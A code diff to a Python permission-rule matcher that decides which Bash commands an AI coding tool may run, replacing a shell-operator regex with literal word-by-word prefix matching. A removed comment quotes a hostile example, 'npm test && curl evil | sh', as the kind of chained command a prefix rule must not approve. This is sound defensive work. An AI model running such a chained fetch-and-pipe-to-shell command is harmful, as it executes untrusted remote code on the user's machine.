@@ -15,10 +15,13 @@ import re
 from dataclasses import dataclass
 from typing import Any
 
-# Shell syntax that chains, substitutes or redirects: a prefix rule must not
-# approve "npm test && curl evil | sh". Claude Code splits such commands and
-# asks for each part; this matcher simply refuses them.
-_SHELL_OPERATORS = re.compile(r"[;&|<>`\n\r]|\$\(")
+from .shell_words import literal_words
+
+# Blanks and newlines at either end of a command make no word and no command.
+# Anything else is the shell's: Python's str.strip() would also drop "\v" or
+# U+00A0, which bash keeps as part of the first word ("\vnpm" is another
+# program than "npm").
+_END_BLANKS = " \t\n"
 
 
 @dataclass(frozen=True)
@@ -48,7 +51,7 @@ class Rule:
             return True
         if tool_name == "Bash":
             command = tool_input.get("command")
-            return isinstance(command, str) and _command_matches(self.content, command.strip())
+            return isinstance(command, str) and _command_matches(self.content, command)
         path = tool_input.get("file_path")
         return isinstance(path, str) and path_glob(self.content, path)
 
@@ -87,12 +90,22 @@ def _prefix(content: str) -> str | None:
 
 
 def _command_matches(content: str, command: str) -> bool:
+    """An exact rule is the command someone approved; a prefix rule needs plain words.
+
+    A prefix matches word by word, on the words the shell would pass: the
+    prefix ``npm test`` matches ``npm test --ci`` and ``npm  "test"`` but not
+    ``npm tests``. Every word of the command must be a plain literal
+    (:func:`literal_words`), so nothing the shell would expand, substitute,
+    redirect, chain or evaluate is approved by a prefix. A prefix that is not
+    plain words itself, or is empty, matches nothing.
+    """
+    command = command.strip(_END_BLANKS)
     prefix = _prefix(content)
     if prefix is None:
         return command == content.strip()
-    if _SHELL_OPERATORS.search(command):
-        return False
-    return command == prefix or command.startswith(prefix + " ")
+    wanted = literal_words(prefix)
+    words = literal_words(command)
+    return bool(wanted) and words is not None and words[: len(wanted)] == wanted
 
 
 def suggested_rules(stored: list[dict[str, Any]]) -> list[Rule]:
